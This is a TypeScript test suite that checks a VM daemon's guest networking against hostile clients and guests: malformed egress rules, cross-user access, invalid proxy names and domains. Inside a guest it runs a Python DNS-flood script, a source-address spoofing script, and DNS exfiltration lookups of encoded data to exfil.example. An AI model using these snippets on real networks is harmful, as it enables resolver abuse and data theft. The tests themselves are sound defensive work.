/**
 * Hostile clients and guests against guest networking: egress rules that are too many, too big
 * or not rules; another user's machine; proxy names and domains that would capture the API's or
 * another user's names; a guest flooding the resolver, spoofing its source address, or asking
 * for names to smuggle data out. Each must be refused, change nothing, and leave the daemon
 * serving everyone else.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { status } from '@grpc/grpc-js';
import { authed, userWithToken } from '../helpers/accounts.js';
import { api, cleanup, startDaemon, type TestDaemon } from '../helpers/daemon.js';
import { type FakeInternet, guestFetch, startFakeInternet } from '../helpers/fake-internet.js';
import { type BoxdClient, boxdClient } from '../helpers/grpc.js';
import { memoryOf, Tally } from '../helpers/hostile.js';

describe('hostile: guest networking', () => {
  const tally = new Tally('networking');
  let inet: FakeInternet;
  let d: TestDaemon;
  let id: string;
  let other: string;
  let bob: BoxdClient;
  let bobToken: string;
  before(async () => {
    inet = await startFakeInternet();
    d = await startDaemon({ env: { ...inet.env, HUTCH_PUBLIC_DOMAIN: 'hutch.test' } });
    const mk = async (): Promise<string> => {
      const r = await api(d.url, 'POST', '/v1/machines', { template: 'python', net: true, ttl_seconds: 900 });
      assert.equal(r.status, 201, JSON.stringify(r.body));
      return r.body.id as string;
    };
    id = await mk();
    other = await mk();
    bobToken = (await userWithToken(d, 'bob')).token;
    bob = boxdClient(d.grpcAddress as string, bobToken);
  });
  after(async () => {
    bob.close();
    await cleanup(d);
    await inet.close();
  });

  const exec = async (machine: string, cmd: string): Promise<string> => {
    const r = await api(d.url, 'POST', `/v1/machines/${machine}/exec`, { cmd, timeout_ms: 120_000 });
    return String(r.body.stdout).trim();
  };

  test('hostile clients: egress rules', async () => {
    const many = Array.from({ length: 1001 }, (_, i) => `198.51.${i >> 8}.${i & 255}`);
    const bad: [string, unknown][] = [
      ['1001 rules', { allow: many }],
      ['a 10 KB name', { allow: [`${'a'.repeat(10_000)}.test`] }],
      ['a rule that is an object', { allow: [{ cidr: '0.0.0.0/0' }] }],
      ['a list that is a string', { deny: '0.0.0.0/0' }],
      ['an unknown field', { allow: [], open: true }],
      ['a wildcard in the middle', { allow: ['pypi.*.org'] }],
      ['a CIDR with host bits past /32', { allow: ['1.2.3.4/40'] }],
      ['an IPv6 range', { allow: ['::/0'] }],
      ['a name with a NUL', { allow: ['a\u0000.test'] }],
    ];
    await api(d.url, 'PUT', `/v1/machines/${id}/egress`, { allow: ['pypi.test'] });
    for (const [what, body] of bad)
      await tally.check(`egress: ${what}`, async () => {
        const r = await api(d.url, 'PUT', `/v1/machines/${id}/egress`, body);
        assert.equal(r.status, 400, JSON.stringify(r.body).slice(0, 300));
        const now = await api(d.url, 'GET', `/v1/machines/${id}/egress`);
        assert.deepEqual(now.body.rules, { allow: ['pypi.test'], deny: [] });
        return r.body.code as string;
      });
    await tally.check("egress: another user's machine is not found, by id or name", async () => {
      for (const method of ['GET', 'PUT'] as const) {
        const r = await authed(
          d.url,
          method,
          `/v1/machines/${id}/egress`,
          { token: bobToken },
          method === 'PUT' ? {} : undefined,
        );
        assert.equal(r.status, 404, JSON.stringify(r.body));
      }
      const now = await api(d.url, 'GET', `/v1/machines/${id}/egress`);
      assert.deepEqual(now.body.rules, { allow: ['pypi.test'], deny: [] });
      return undefined;
    });
    await api(d.url, 'PUT', `/v1/machines/${id}/egress`, {});
  });

  test('hostile clients: proxy names and domains', async () => {
    const b = await bob.call<Record<string, unknown>>('CreateVm', {
      name: 'bob1',
      image_ref: 'debian:bookworm',
      config: { memory_bytes: String(512 * 1024 * 1024), srf: { auto_suspend_timeout_secs: 0 } },
    });
    const names = ['a.b', '../x', 'x'.repeat(64), 'UPPER', 'ünï', '-lead', 'trail-', '', 'a b', 'a\u0000b'];
    for (const name of names)
      await tally.check(`proxy name ${JSON.stringify(name).slice(0, 20)}`, async () => {
        const code = await bob.call('CreateProxy', { name, vm_name: 'bob1', port: 0 }).then(
          () => status.OK,
          (e: { code: number }) => e.code,
        );
        assert.equal(code, status.INVALID_ARGUMENT);
        return undefined;
      });
    const domains = [
      'localhost',
      '127.0.0.1',
      'hutch.test',
      'api.hutch.test',
      '198.18.0.1',
      'a..b.com',
      '*.example.com',
    ];
    for (const domain of domains)
      await tally.check(`bind domain ${domain}`, async () => {
        const code = await bob.call('BindDomain', { domain, vm_id: 'bob1' }).then(
          () => status.OK,
          (e: { code: number }) => e.code,
        );
        assert.equal(code, status.INVALID_ARGUMENT);
        return undefined;
      });
    await tally.check("a proxy onto another user's machine", async () => {
      const code = await bob.call('CreateProxy', { name: 'steal', vm_name: id, port: 0 }).then(
        () => status.OK,
        (e: { code: number }) => e.code,
      );
      assert.equal(code, status.NOT_FOUND);
      return undefined;
    });
    await bob.call('DestroyVm', { vm_id: b.vm_id as string });
  });

  test('hostile guests: a DNS flood, spoofed sources, exfiltration through names', async () => {
    const before = memoryOf(d.proc.pid as number).rssMb;
    await tally.check('5000 queries as fast as the guest can send them', async () => {
      const r = await exec(
        id,
        `python3 - <<'EOF'
import socket, os, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False)
sent = 0
for i in range(5000):
    q = os.urandom(2) + bytes.fromhex("01000001000000000000") + bytes([10]) + os.urandom(5).hex()[:10].encode() + b"\\x04test\\x00\\x00\\x01\\x00\\x01"
    try: s.sendto(q, ("172.31.255.1", 53)); sent += 1
    except BlockingIOError: time.sleep(0.001)
print(sent)
EOF`,
      );
      assert.ok(Number(r) > 1000, r);
      const e = await api(d.url, 'GET', `/v1/machines/${id}/egress`);
      const recent = e.body.recent as { detail?: string }[];
      assert.ok(
        recent.some((x) => x.detail === 'rate-limited'),
        JSON.stringify(e.body).slice(0, 400),
      );
      return `sent ${r}`;
    });
    await tally.check('after the flood, the other guest still resolves and fetches', async () => {
      const r = await exec(other, guestFetch('http://pypi.test/'));
      assert.equal(r, 'hello from the fake internet');
      return undefined;
    });
    await tally.check('a guest spoofing another address still leaves as its own', async () => {
      const r = await exec(
        id,
        `ip addr add 172.31.255.3/30 dev eth0 && python3 - <<'EOF'
import socket
s = socket.socket(); s.bind(("172.31.255.3", 0)); s.settimeout(5)
try:
    s.connect(("198.18.1.11", 80)); s.sendall(b"GET /spoof-check HTTP/1.0\\r\\n\\r\\n"); print(s.recv(20))
except OSError as e: print("refused", e)
EOF
ip addr del 172.31.255.3/30 dev eth0`,
      );
      // Whether or not it got through, the server saw the host (every guest is masqueraded), never the forged address.
      const seen = inet
        .requests()
        .split('\n')
        .filter((l) => l.includes('/spoof-check'));
      for (const l of seen) assert.match(l, /^198\.18\.0\.1 /, l);
      return `${r} (${seen.length} seen)`;
    });
    await tally.check('names carrying data never reach the upstream under an allowlist', async () => {
      await api(d.url, 'PUT', `/v1/machines/${id}/egress`, { allow: ['pypi.test'] });
      await exec(id, 'for i in 1 2 3; do getent hosts c2VjcmV0$i.exfil.example; done; true');
      await api(d.url, 'PUT', `/v1/machines/${id}/egress`, {});
      assert.doesNotMatch(inet.requests(), /c2VjcmV0/);
      return undefined;
    });
    await tally.check("the guests' resolver does not answer the outside world", async () => {
      const port = Number(readFileSync(join(d.stateDir, 'dns-port'), 'utf8'));
      const script = [
        'import socket',
        's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)',
        'q = bytes.fromhex("abcd01000001000000000000") + bytes([4]) + b"pypi" + bytes([4]) + b"test" + bytes([0, 0, 1, 0, 1])',
        `s.sendto(q, ("198.18.0.1", ${port}))`,
        'try: print("answered", len(s.recv(512)))',
        'except socket.timeout: print("silent")',
      ].join('\n');
      const r = execFileSync('ip', ['netns', 'exec', inet.netns, 'python3', '-c', script], {
        encoding: 'utf8',
      }).trim();
      assert.equal(r, 'silent');
      return undefined;
    });
    const after = memoryOf(d.proc.pid as number).rssMb;
    tally.record(
      'daemon memory stays bounded under the guest floods',
      after - before < 150,
      `${before} → ${after} MiB`,
    );
    await tally.check('the daemon still serves', async () => {
      const h = await api(d.url, 'GET', '/healthz');
      assert.equal(h.status, 200);
      return undefined;
    });
    tally.report();
  });
});
